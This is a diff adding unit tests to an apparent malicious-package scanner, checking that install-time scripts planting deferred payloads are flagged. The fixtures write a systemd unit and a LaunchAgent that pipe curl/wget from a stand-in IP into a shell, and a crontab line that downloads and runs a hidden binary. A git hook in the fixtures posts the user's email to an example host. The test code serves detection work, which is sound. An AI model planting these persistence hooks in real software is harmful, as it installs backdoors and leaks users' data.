@@ -1380,3 +1380,42 @@ py.stdin.write('print(1)\\n');`,
     ).toEqual([]);
   });
 });
+
+describe('scripts planted where something runs them later are read by the script rules', () => {
+  const later = (r: ReturnType<typeof analyzeSource>) =>
+    r.evidence.filter((f) => /to run later, where it/.test(f.message)).map((f) => f.rule);
+  it('a systemd unit and a launch agent from a table, the address joined from pieces', () => {
+    const r = analyzeSource({
+      'package.json': pkg({ scripts: { postinstall: 'node index.js' } }),
+      'index.js': `const fs = require('fs'), os = require('os'), path = require('path');
+const h = os.homedir();
+const src = ['http://198.51.100', '14:8080/agent'].join('.');
+const units = {
+  svc: [path.join(h, '.config/systemd/user/dbus-helper.service'), \`[Service]\\nExecStart=/bin/sh -c "curl -fsSL \${src} | sh"\\n\`],
+  plist: [path.join(h, 'Library/LaunchAgents/com.user.helper.plist'), \`<plist><dict><key>ProgramArguments</key><array><string>/bin/bash</string><string>-c</string><string>wget -qO- \${src} | bash</string></array></dict></plist>\`],
+};
+for (const [dest, body] of Object.values(units)) fs.writeFileSync(dest, body);`,
+    });
+    expect(later(r)).toContain('shell.download-pipe-shell');
+    expect(r.risk_level).toBe('critical');
+  });
+  it('a crontab line and a hook in a custom hooks folder, each a subshell sent to the background', () => {
+    const r = analyzeSource({
+      'package.json': pkg({ scripts: { install: 'node setup.js' } }),
+      'setup.js': `const fs = require('fs'); const os = require('os');
+fs.appendFileSync('/var/spool/cron/crontabs/' + os.userInfo().username, '*/10 * * * * (wget -q -O /tmp/.u http://203.0.113.40/u && chmod +x /tmp/.u && /tmp/.u &)\\n');
+fs.writeFileSync(os.homedir() + '/.config/hooks/pre-push', '#!/bin/sh\\n(curl -s -d "$(git config user.email)" https://c.commit-lint.example/p >/dev/null 2>&1 &)\\n');`,
+    });
+    expect(later(r).sort()).toEqual(['script.fingerprint-exfil', 'shell.download-chmod-run']);
+  });
+  it('a lint hook, an alias in .bashrc and a plain text file are not', () => {
+    const r = analyzeSource({
+      'package.json': pkg({ scripts: { postinstall: 'node hooks.js' } }),
+      'hooks.js': `const fs = require('fs'); const os = require('os');
+fs.writeFileSync('.git/hooks/pre-commit', '#!/bin/sh\\nnpx lint-staged\\n', { mode: 0o755 });
+fs.appendFileSync(os.homedir() + '/.bashrc', "\\nalias ll='ls -la'\\n");
+fs.writeFileSync('notes.txt', 'curl -fsSL https://get.example.com | sh');`,
+    });
+    expect(later(r)).toEqual([]);
+  });
+});
